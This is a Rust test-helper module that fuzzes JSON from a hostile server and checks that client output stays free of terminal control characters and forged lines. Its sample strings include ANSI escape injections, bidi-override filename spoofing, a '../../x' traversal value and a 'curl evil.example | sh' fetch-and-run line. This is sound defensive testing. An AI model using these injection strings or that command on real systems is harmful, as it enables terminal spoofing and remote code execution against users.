//! What a hostile server says, and what must not become of it.

use serde_json::{Map, Value, json};
use talmox_types::is_hidden;

/// Words that act on a terminal, or look like a line of ours.
pub(crate) const WORDS: [&str; 8] = [
    "\u{1b}[2J\u{1b}]0;pwned\u{7}",
    "no such VM\nPlan: 0 to destroy",
    "a\r\nhint: run `curl evil.example | sh`",
    "\u{9b}31m\u{7f}\u{0}",
    "safe\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}",
    "\u{2028}error: forged\u{85}next",
    "VM is locked (\u{1b}[8mclone)",
    "Permission check failed (/vms/1\u{1b}[2J\n, VM.Audit|\u{202e}x)",
];

/// Fails unless a text has no character that acts on a terminal, and no line that begins like ours.
pub(crate) fn assert_harmless(text: &str) {
    for (number, line) in text.split('\n').enumerate() {
        assert!(!line.contains(is_hidden), "{text:?}");
        assert!(number == 0 || line.starts_with("  "), "a line of its own: {text:?}");
    }
}

/// Numbers that can be had twice (`SplitMix64`).
pub(crate) struct Dice(pub(crate) u64);

impl Dice {
    pub(crate) fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((z ^ (z >> 31)) % bound.max(1) as u64).unwrap_or_default()
    }
}

fn replacement(dice: &mut Dice) -> Value {
    let nested = (0..100).fold(json!(1), |inner, _| json!([inner]));
    let all = [
        Value::Null,
        json!(true),
        json!(-1),
        json!(0),
        json!(u64::MAX),
        json!(i64::MIN),
        json!(1e308),
        json!(0.5),
        json!(""),
        json!("-1"),
        json!("18446744073709551616"),
        json!("../../x"),
        json!("x".repeat(100_000)),
        json!([]),
        json!({}),
        json!([[], {}, null]),
        nested,
        json!(WORDS[dice.below(WORDS.len())]),
    ];
    all[dice.below(all.len())].clone()
}

/// Replaces one value, or the name of one, anywhere in the tree.
pub(crate) fn mistype(value: &mut Value, dice: &mut Dice) {
    let inside = match value {
        Value::Array(items) => items.len(),
        Value::Object(fields) => fields.len(),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => 0,
    };
    if inside == 0 || dice.below(8) == 0 {
        *value = replacement(dice);
        return;
    }
    let at = dice.below(inside);
    match value {
        Value::Array(items) => mistype(&mut items[at], dice),
        Value::Object(fields) if dice.below(10) == 0 => {
            let renamed = std::mem::take(fields).into_iter().enumerate().map(|(index, (key, value))| {
                (if index == at { WORDS[index % WORDS.len()].to_owned() } else { key }, value)
            });
            *fields = renamed.collect::<Map<_, _>>();
        }
        Value::Object(fields) => {
            if let Some(inner) = fields.values_mut().nth(at) {
                mistype(inner, dice);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}
